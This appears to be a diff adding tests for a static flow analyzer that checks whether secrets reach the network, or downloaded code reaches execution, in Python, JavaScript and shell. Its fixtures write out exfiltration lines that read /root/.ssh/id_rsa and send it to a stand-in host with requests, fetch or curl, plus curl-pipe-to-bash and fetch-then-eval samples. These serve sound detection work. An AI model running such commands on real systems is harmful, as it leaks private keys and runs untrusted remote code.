@@ -1,0 +1,103 @@
+import { describe, expect, it } from 'vitest';
+import type { Language } from '../../../src/model/program.ts';
+import { prepareRules } from '../../../src/rules/rule-set.ts';
+import { gatherFacts } from '../../../src/static/facts/gather.ts';
+import { findFlows } from '../../../src/static/flow/flows.ts';
+import { testKnowledge } from '../knowledge.ts';
+
+const rules = prepareRules(testKnowledge());
+
+async function flowsIn(code: string, language: Language = 'python'): Promise<readonly string[]> {
+  const { facts } = await gatherFacts(code, language, 'a', null, rules);
+  return findFlows(facts.graph).map((flow) => `${flow.from} > ${flow.to}`);
+}
+
+const SECRET = 'import requests, os\nkey = open("/root/.ssh/id_rsa").read()\n';
+
+describe('flows in Python', () => {
+  it.each([
+    ['a variable', 'requests.post("https://h.example", data=key)'],
+    ['a container', 'd = {"k": key}\nrequests.post("https://h.example", json=d)'],
+    ['a stored entry', 'd = {}\nd["k"] = key\nrequests.post("https://h.example", json=d)'],
+    ['an appended element', 'd = []\nd.append(key)\nrequests.post("https://h.example", json=d)'],
+    ['a text', 'requests.post(f"https://h.example/{key}")'],
+    ['an unknown function', 'import lib\nrequests.post("https://h.example", data=lib.pack(key))'],
+    ['a function that sends', 'def send(x):\n  requests.post("https://h.example", data=x)\nsend(key)'],
+    [
+      'a function that reads',
+      'def read():\n  return open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=read())',
+    ],
+    [
+      'an attribute',
+      'class A:\n  def send(self):\n    requests.post("https://h.example", data=self.k)\n  def load(self):\n    self.k = open("/root/.ssh/id_rsa").read()',
+    ],
+    ['a loop', 'all = ""\nfor line in key:\n  all += line\nrequests.post("https://h.example", data=all)'],
+    ['with', 'with open("/root/.ssh/id_rsa") as f:\n  requests.post("https://h.example", data=f.read())'],
+    [
+      'a file',
+      'with open("/tmp/x", "w") as f:\n  f.write(key)\nrequests.post("https://h.example", data=open("/tmp/x").read())',
+    ],
+    ['a module variable in a function', 'def go():\n  requests.post("https://h.example", data=key)'],
+    ['a modelled object', 's = requests.Session()\ns.post("https://h.example", data=key)'],
+    ['a command', 'import subprocess\nsubprocess.run(f"curl -d {key} https://h.example")'],
+    ['words of a command', 'import subprocess\nsubprocess.run(["curl", "-d", key, "https://h.example"])'],
+  ])('go through %s', async (_what, code) => {
+    expect(await flowsIn(SECRET + code)).toContain('secret > network');
+  });
+
+  it('tell a header from a body', async () => {
+    const flows = await flowsIn(
+      'import os, requests\nrequests.post("https://h.example", headers={"a": os.environ["K"]})',
+    );
+    expect(flows).toEqual(['credential > network-header']);
+  });
+
+  it.each([
+    ['what is not sent', 'requests.post("https://h.example", data="x")'],
+    ['a value that was overwritten', 'key = "x"\nrequests.post("https://h.example", data=key)'],
+    ['a comparison', 'requests.post("https://h.example", data=key == "x")'],
+    ['what a sanitizer returns', 'requests.post("https://h.example", data=hash(key))'],
+    [
+      'another call of the same function',
+      'def same(x):\n  return x\nsame(key)\nrequests.post("https://h.example", data=same("x"))',
+    ],
+  ])('do not go through %s', async (_what, code) => {
+    expect(await flowsIn(SECRET + code)).not.toContain('secret > network');
+  });
+});
+
+describe('flows in JavaScript', () => {
+  it.each([
+    ['a body', 'const k = fs.readFileSync("/root/.ssh/id_rsa"); fetch("https://h.example", { body: k })'],
+    ['a promise', 'fetch("https://h.example").then((r) => r.text()).then((t) => eval(t))', 'network > code'],
+    [
+      'a callback',
+      'load(fs.readFileSync("/root/.ssh/id_rsa"), (k) => fetch("https://h.example", { body: k }))',
+    ],
+    [
+      'a closure',
+      'let k = ""; function a() { k = fs.readFileSync("/root/.ssh/id_rsa"); } function b() { fetch("https://h.example", { body: k }); } a(); b();',
+    ],
+  ])('go through %s', async (_what, code, flow = 'secret > network') => {
+    expect(await flowsIn(`const fs = require("fs");\n${code}`, 'javascript')).toContain(flow);
+  });
+});
+
+describe('flows in shell', () => {
+  it.each([
+    ['a pipe', 'cat ~/.ssh/id_rsa | base64 | curl --data-binary @- https://h.example'],
+    ['a variable', 'K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" https://h.example'],
+    ['a file', 'cat ~/.ssh/id_rsa > /tmp/x\ncurl -F f=@/tmp/x https://h.example'],
+    ['a file named in the command', 'curl -F "f=@$HOME/.ssh/id_rsa" https://h.example'],
+    ['a function', 'send() { curl -d "$1" https://h.example; }\nsend "$(cat ~/.ssh/id_rsa)"'],
+    ['what is downloaded and run', 'curl -s https://h.example/x.sh | bash', 'network > code'],
+  ])('go through %s', async (_what, code, flow = 'secret > network') => {
+    expect(await flowsIn(code, 'shell')).toContain(flow);
+  });
+
+  it('do not go from one command to the next', async () => {
+    expect(await flowsIn('cat ~/.ssh/id_rsa\ncurl -d x https://h.example', 'shell')).not.toContain(
+      'secret > network',
+    );
+  });
+});
